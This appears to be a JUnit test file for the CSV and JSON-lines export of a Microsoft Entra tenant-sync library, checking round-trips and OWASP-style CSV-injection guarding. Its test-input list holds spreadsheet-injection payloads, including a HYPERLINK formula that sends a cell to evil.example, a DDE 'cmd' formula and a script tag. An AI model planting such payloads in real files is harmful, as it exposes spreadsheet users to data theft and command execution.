package dev.entrasync.jdbc;

import static dev.entrasync.jdbc.TestUsers.TENANT_A;
import static dev.entrasync.jdbc.TestUsers.TENANT_B;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.entrasync.Dataset;
import dev.entrasync.DatasetResult;
import dev.entrasync.DatasetSink;
import dev.entrasync.SinkContext;
import dev.entrasync.SyncEngine;
import dev.entrasync.SyncResult;
import dev.entrasync.TenantId;
import dev.entrasync.model.EntraRecord;
import dev.entrasync.model.EntraUser;
import dev.entrasync.testing.FakeTime;
import dev.entrasync.testkit.SimulatedTenant;
import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@link JdbcQueries#export}: CSV read back with Apache Commons CSV and JSON lines read back with Jackson, compared
 * field by field with the stored records; hostile names (commas, quotes, line breaks, unicode, HTML, formulas).
 * The expected cells are written out here from the record's fields, not taken from {@link DatasetColumns}, so a
 * column that reads the wrong field fails.
 */
class JdbcExportTest {

    private static final TenantId TENANT = TenantId.of(TENANT_A);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final CSVFormat CSV =
            CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();

    /** Display names a spreadsheet or a page must not misread, and a few that must just survive. */
    static final List<String> HOSTILE = List.of(
            "Smith, John",
            "Say \"hi\", \"bye\"",
            "two\nlines",
            "carriage\r\nreturn",
            "Zoë Ångström 日本語 🚀",
            "<script>alert('x')</script> &amp;",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1-555-0100",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTabbed",
            "\rReturned",
            "=cmd|' /C calc'!A0",
            "plain");

    private final FakeTime clock = new FakeTime(Instant.parse("2026-03-10T09:00:00Z"));

    @Test
    void aSyncedTenThousandUserTenantRoundTripsThroughCsvAndJsonLines(@TempDir Path dir) throws IOException {
        FakeTime clock = new FakeTime(SimulatedHost.AS_OF.plus(Duration.ofHours(8)));
        try (TestDatabase db = new TestDatabase(TestServer.H2)) {
            JdbcStorage storage = db.storageBuilder().clock(clock).build();
            try (SimulatedHost host = new SimulatedHost(storage, clock, clock)) {
                SimulatedTenant simulated = host.tenant("Northwind", 10_000, 10, 5);
                List<String> ids = simulated.users().list().stream()
                        .map(u -> (String) u.get("id"))
                        .sorted()
                        .toList();
                for (int i = 0; i < HOSTILE.size(); i++) {
                    simulated.users().update(ids.get(i * 613), Map.of("displayName", HOSTILE.get(i)));
                }
                TenantId tenant = TenantId.of(simulated.id());
                try (SyncEngine engine = host.engine().build()) {
                    SyncResult result = engine.sync("msp", tenant, EnumSet.of(Dataset.USERS));
                    assertThat(result.dataset(Dataset.USERS).orElseThrow().status())
                            .isEqualTo(DatasetResult.Status.SUCCEEDED);
                }
                JdbcQueries queries = storage.queries();
                List<EntraUser> stored = inReadingOrder(queries, tenant);
                assertThat(stored).hasSize(10_000);
                assertThat(stored.stream().map(EntraUser::displayName)).containsAll(HOSTILE);

                Path csv = dir.resolve("users.csv");
                assertThat(export(queries, tenant, ExportFormat.CSV, csv)).isEqualTo(10_000);
                assertCsvEquals(csv, stored);
                Path jsonl = dir.resolve("users.jsonl");
                assertThat(export(queries, tenant, ExportFormat.JSON_LINES, jsonl))
                        .isEqualTo(10_000);
                assertJsonLinesEqual(jsonl, stored);
                assertThat(simulated.users().list().stream()
                                .map(u -> (String) u.get("userPrincipalName"))
                                .collect(Collectors.toSet()))
                        .isEqualTo(stored.stream()
                                .map(EntraUser::userPrincipalName)
                                .collect(Collectors.toSet()));
            }
        }
    }

    @DatabaseTest
    void hostileNamesSurviveBothFormatsAndOnlyTheTenantsCurrentRecordsAreExported(TestDatabase db, @TempDir Path dir)
            throws IOException {
        JdbcStorage storage = db.storageBuilder().clock(clock).build();
        List<EntraUser> users = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            users.add(TestUsers.user(i, HOSTILE.get(i)));
        }
        users.add(TestUsers.user(900, null));
        run(storage, TENANT, "r1", users);
        run(storage, TENANT, "r2", users.subList(1, users.size()));
        run(storage, TenantId.of(TENANT_B), "r3", TestUsers.users(100, 103));
        JdbcQueries queries = storage.queries();
        List<EntraUser> stored = inReadingOrder(queries, TENANT);
        assertThat(stored).hasSize(users.size() - 1);

        Path csv = dir.resolve("users.csv");
        assertThat(export(queries, TENANT, ExportFormat.CSV, csv)).isEqualTo(stored.size());
        assertCsvEquals(csv, stored);
        byte[] bytes = Files.readAllBytes(csv);
        assertThat(bytes[0]).as("no byte-order mark").isEqualTo((byte) 'U');
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text)
                .startsWith("User principal name,Name,Enabled,Type,Roles,MFA,Other mails,Password policies,Licences,"
                        + "Created\r\n")
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"")
                .contains(",'@SUM(A1:A9),")
                .contains("Zoë Ångström 日本語 🚀")
                .doesNotContain("user0@")
                .doesNotContain("user100@");

        ByteArrayOutputStream json = new ByteArrayOutputStream();
        queries.export(TENANT, Dataset.USERS, ExportFormat.JSON_LINES, json);
        Path jsonl = dir.resolve("users.jsonl");
        Files.write(jsonl, json.toByteArray());
        assertJsonLinesEqual(jsonl, stored);
        assertThat(json.toString(StandardCharsets.UTF_8))
                .contains("\"Name\":\"=HYPERLINK(")
                .contains("\"Name\":null");
    }

    @DatabaseTest
    void otherDatasetsExportTypedValuesInReadingOrder(TestDatabase db) throws IOException {
        JdbcStorage storage = db.storageBuilder().clock(clock).build();
        run(storage, TENANT, Dataset.ROLES, List.of(TestRecords.role(1)));
        run(
                storage,
                TENANT,
                Dataset.AUDIT_LOGS,
                List.of(TestRecords.audit(1), TestRecords.audit(2), TestRecords.audit(3)));
        run(
                storage,
                TENANT,
                Dataset.SECURE_SCORES,
                List.of(TestRecords.score(TENANT_A, java.time.LocalDate.of(2026, 3, 1), 41.5)));
        JdbcQueries queries = storage.queries();

        ByteArrayOutputStream roles = new ByteArrayOutputStream();
        queries.export(TENANT, Dataset.ROLES, ExportFormat.JSON_LINES, roles);
        JsonNode role = JSON.readTree(roles.toString(StandardCharsets.UTF_8));
        assertThat(role.get("Role").asText()).isEqualTo("Role 1");
        assertThat(role.get("Description").asText()).isEqualTo("Can do things \"quoted\" & more");
        assertThat(role.get("Members").isInt()).isTrue();
        assertThat(role.get("Who")).hasSize(2);
        assertThat(role.get("Who").get(0).asText()).isEqualTo("user1@contoso.onmicrosoft.com");
        assertThat(role.get("Who").get(1).asText()).isEqualTo("Backup app");

        ByteArrayOutputStream audit = new ByteArrayOutputStream();
        assertThat(queries.export(TENANT, Dataset.AUDIT_LOGS, ExportFormat.CSV, audit))
                .isEqualTo(3);
        try (CSVParser parser = CSV.parse(new java.io.StringReader(audit.toString(StandardCharsets.UTF_8)))) {
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows)
                    .extracting(r -> r.get("When"))
                    .as("newest first, as JdbcQueries.page reads them")
                    .containsExactly("2026-03-01T00:03:00Z", "2026-03-01T00:02:00Z", "2026-03-01T00:01:00Z");
            assertThat(rows.get(0).get("Initiated by")).isEqualTo("Graph");
            assertThat(rows.get(1).get("Initiated by")).isEqualTo("user1@contoso.onmicrosoft.com");
            assertThat(rows.get(0).get("Result reason")).isEqualTo("Insufficient privileges");
            assertThat(rows.get(1).get("Result reason")).isEmpty();
        }

        ByteArrayOutputStream scores = new ByteArrayOutputStream();
        queries.export(TENANT, Dataset.SECURE_SCORES, ExportFormat.JSON_LINES, scores);
        JsonNode score = JSON.readTree(scores.toString(StandardCharsets.UTF_8));
        assertThat(score.get("Score").isDouble()).isTrue();
        assertThat(score.get("Score").asDouble()).isEqualTo(41.5);
        assertThat(score.get("Active users").asInt()).isEqualTo(42);
        assertThat(score.get("Date").asText()).isEqualTo("2026-03-01T00:00:00Z");
    }

    @DatabaseTest
    void signInActivityAndConditionalAccessExportTypedValues(TestDatabase db) throws IOException {
        JdbcStorage storage = db.storageBuilder().clock(clock).build();
        run(
                storage,
                TENANT,
                Dataset.SIGN_IN_ACTIVITY,
                List.of(TestRecords.signIn(1), TestRecords.signIn(2), TestRecords.signIn(3)));
        List<EntraRecord> ca = new ArrayList<>(List.of(TestRecords.policy(0), TestRecords.policy(1)));
        ca.add(TestRecords.securityDefaults(Boolean.FALSE));
        run(storage, TENANT, Dataset.CONDITIONAL_ACCESS, ca);
        JdbcQueries queries = storage.queries();

        ByteArrayOutputStream signIns = new ByteArrayOutputStream();
        assertThat(queries.export(TENANT, Dataset.SIGN_IN_ACTIVITY, ExportFormat.CSV, signIns))
                .isEqualTo(3);
        try (CSVParser parser = CSV.parse(new java.io.StringReader(signIns.toString(StandardCharsets.UTF_8)))) {
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows)
                    .extracting(r -> r.get("User principal name"))
                    .containsExactly(
                            "user1@contoso.onmicrosoft.com",
                            "user2@contoso.onmicrosoft.com",
                            "user3@contoso.onmicrosoft.com");
            assertThat(rows.get(0).get("Last interactive")).isEqualTo("2026-11-01T09:00:00.500Z");
            assertThat(rows.get(0).get("Last successful")).isEqualTo("2026-11-01T09:00:00.500Z");
            assertThat(rows.get(1).get("Last successful")).isEmpty();
            assertThat(rows.get(0).get("Never signed in")).isEqualTo("false");
            assertThat(rows.get(2).get("Last interactive")).isEmpty();
            assertThat(rows.get(2).get("Never signed in")).isEqualTo("true");
        }

        ByteArrayOutputStream policies = new ByteArrayOutputStream();
        assertThat(queries.export(TENANT, Dataset.CONDITIONAL_ACCESS, ExportFormat.JSON_LINES, policies))
                .as("the policies; security defaults are a record of their own, not a policy row")
                .isEqualTo(2);
        List<JsonNode> lines = new ArrayList<>();
        for (String line : policies.toString(StandardCharsets.UTF_8).split("\n")) {
            lines.add(JSON.readTree(line));
        }
        assertThat(lines).extracting(l -> l.get("Policy").asText()).containsExactly("Policy ñ 0", "Policy ñ 1");
        assertThat(lines.get(0).get("State").asText()).isEqualTo("enabled");
        assertThat(lines.get(0).get("MFA required").asBoolean()).isTrue();
        assertThat(lines.get(0).get("Users").asText()).isEqualTo("All; excl. 2");
        assertThat(lines.get(0).get("Session").isNull()).isTrue();
        assertThat(lines.get(1).get("State").asText()).isEqualTo("report-only");
        assertThat(lines.get(1).get("Grant").asText()).isEqualTo("compliantDevice AND Phishing-resistant MFA");
        assertThat(lines.get(1).get("Client apps")).hasSize(2);
        assertThat(lines.get(1).get("Session").asText())
                .isEqualTo("sign-in every 8 hours, persistent browser never, Defender for Cloud Apps monitorOnly,"
                        + " app-enforced restrictions");
    }

    @DatabaseTest
    void aTenantWithNothingStoredExportsTheHeaderAlone(TestDatabase db) {
        JdbcQueries queries = db.storageBuilder().clock(clock).build().queries();
        for (Dataset dataset : Dataset.values()) {
            ByteArrayOutputStream csv = new ByteArrayOutputStream();
            ByteArrayOutputStream json = new ByteArrayOutputStream();

            assertThat(queries.export(TENANT, dataset, ExportFormat.CSV, csv)).isZero();
            assertThat(queries.export(TENANT, dataset, ExportFormat.JSON_LINES, json))
                    .isZero();

            assertThat(csv.toString(StandardCharsets.UTF_8))
                    .isEqualTo(String.join(",", DatasetColumns.of(dataset).names()) + "\r\n");
            assertThat(json.size()).isZero();
        }
    }

    @DatabaseTest
    void aFailingOutputStreamStopsTheExportAndGivesTheConnectionBack(TestDatabase db) {
        JdbcStorage storage = db.storageBuilder().clock(clock).build();
        run(storage, TENANT, "r1", TestUsers.users(0, 3_000));
        JdbcQueries queries = storage.queries();
        OutputStream broken = new OutputStream() {
            private long written;

            @Override
            public void write(int b) throws IOException {
                write(new byte[] {(byte) b}, 0, 1);
            }

            @Override
            public void write(byte[] b, int off, int len) throws IOException {
                written += len;
                if (written > 100_000) {
                    throw new IOException("disk full");
                }
            }
        };

        for (int i = 0; i < 12; i++) {
            assertThatThrownBy(() -> queries.export(TENANT, Dataset.USERS, ExportFormat.CSV, broken))
                    .isInstanceOf(UncheckedIOException.class)
                    .hasMessageContaining("exporting users of tenant " + TENANT_A)
                    .hasRootCauseMessage("disk full");
        }
        // More failed exports than the pool has connections: each gave its connection back, in auto-commit.
        assertThat(queries.count(TENANT, EntraUser.class)).isEqualTo(3_000);
        run(storage, TENANT, "r2", TestUsers.users(0, 2));
        assertThat(queries.count(TENANT, EntraUser.class)).isEqualTo(2);
    }

    @Test
    void unknownFormatNamesTheAcceptedOnes() {
        assertThat(ExportFormat.of(" CSV ")).isEqualTo(ExportFormat.CSV);
        assertThat(ExportFormat.of("json")).isEqualTo(ExportFormat.JSON_LINES);
        assertThat(ExportFormat.of("jsonl")).isEqualTo(ExportFormat.JSON_LINES);
        assertThatThrownBy(() -> ExportFormat.of("xlsx"))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("format: unknown export format 'xlsx'; use csv or json (JSON lines)");
    }

    private static void run(JdbcStorage storage, TenantId tenant, String runId, List<? extends EntraRecord> records) {
        run(storage, tenant, Dataset.USERS, records, runId);
    }

    private static void run(
            JdbcStorage storage, TenantId tenant, Dataset dataset, List<? extends EntraRecord> records) {
        run(storage, tenant, dataset, records, "r-" + dataset.key());
    }

    private static void run(
            JdbcStorage storage, TenantId tenant, Dataset dataset, List<? extends EntraRecord> records, String runId) {
        DatasetSink.Session session = storage.datasetSink().open(new SinkContext(tenant, dataset, runId, true));
        session.upsert(records);
        session.complete();
    }

    /** The tenant's users exported to {@code file}; the number of records written. */
    private static long export(JdbcQueries queries, TenantId tenant, ExportFormat format, Path file)
            throws IOException {
        try (OutputStream out = Files.newOutputStream(file)) {
            return queries.export(tenant, Dataset.USERS, format, out);
        }
    }

    /** The stored users in the order {@link JdbcQueries#page} reads them, which the export follows. */
    private static List<EntraUser> inReadingOrder(JdbcQueries queries, TenantId tenant) {
        List<EntraUser> all = new ArrayList<>();
        for (int offset = 0; ; offset += JdbcQueries.MAX_PAGE) {
            List<EntraUser> page = queries.page(tenant, EntraUser.class, null, offset, JdbcQueries.MAX_PAGE)
                    .records();
            all.addAll(page);
            if (page.size() < JdbcQueries.MAX_PAGE) {
                return all;
            }
        }
    }

    private static void assertCsvEquals(Path file, List<EntraUser> stored) throws IOException {
        try (BufferedReader in = Files.newBufferedReader(file, StandardCharsets.UTF_8);
                CSVParser parser = CSV.parse(in)) {
            assertThat(parser.getHeaderNames())
                    .isEqualTo(DatasetColumns.of(Dataset.USERS).names());
            int i = 0;
            Set<String> seen = new HashSet<>();
            for (CSVRecord record : parser) {
                EntraUser user = stored.get(i);
                assertThat(record.toList())
                        .as("CSV row %d (%s)", i + 1, user.id())
                        .isEqualTo(expectedCsv(user));
                assertThat(record.get("Name")).isEqualTo(guarded(user.displayName() == null ? "" : user.displayName()));
                seen.add(record.get("User principal name"));
                i++;
            }
            assertThat(i).isEqualTo(stored.size());
            assertThat(seen).hasSize(stored.size());
        }
    }

    private static void assertJsonLinesEqual(Path file, List<EntraUser> stored) throws IOException {
        List<String> lines = Files.readAllLines(file, StandardCharsets.UTF_8);
        assertThat(lines).hasSize(stored.size());
        for (int i = 0; i < lines.size(); i++) {
            JsonNode parsed = JSON.readTree(lines.get(i));
            assertThat(parsed).as("JSON line %d", i + 1).isEqualTo(expectedJson(stored.get(i)));
            assertThat(Instant.parse(parsed.get("Created").asText()))
                    .isEqualTo(stored.get(i).createdDateTime());
        }
    }

    /** A user's CSV row, written out from its fields. */
    private static List<String> expectedCsv(EntraUser u) {
        return List.of(
                guarded(orEmpty(u.userPrincipalName())),
                guarded(orEmpty(u.displayName())),
                u.accountEnabled() == null ? "" : u.accountEnabled().toString(),
                guarded(orEmpty(u.userType())),
                guarded(String.join("; ", u.directoryRoles())),
                u.mfa().state().name(),
                guarded(String.join("; ", u.otherMails())),
                guarded(orEmpty(u.passwordPolicies())),
                Integer.toString(u.assignedLicenses().size()),
                u.createdDateTime() == null ? "" : u.createdDateTime().toString());
    }

    /** A user's JSON object, written out from its fields. */
    private static ObjectNode expectedJson(EntraUser u) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        ObjectNode o = f.objectNode();
        o.put("User principal name", u.userPrincipalName());
        o.put("Name", u.displayName());
        o.put("Enabled", u.accountEnabled());
        o.put("Type", u.userType());
        ArrayNode roles = o.putArray("Roles");
        u.directoryRoles().forEach(roles::add);
        o.put("MFA", u.mfa().state().name());
        ArrayNode mails = o.putArray("Other mails");
        u.otherMails().forEach(mails::add);
        o.put("Password policies", u.passwordPolicies());
        o.put("Licences", u.assignedLicenses().size());
        o.put(
                "Created",
                u.createdDateTime() == null ? null : u.createdDateTime().toString());
        return o;
    }

    private static String orEmpty(String text) {
        return text == null ? "" : text;
    }

    /** OWASP's CSV-injection guard, written independently of the production code. */
    static String guarded(String text) {
        return text.matches("(?s)[=+\\-@\t\r].*") ? "'" + text : text;
    }
}
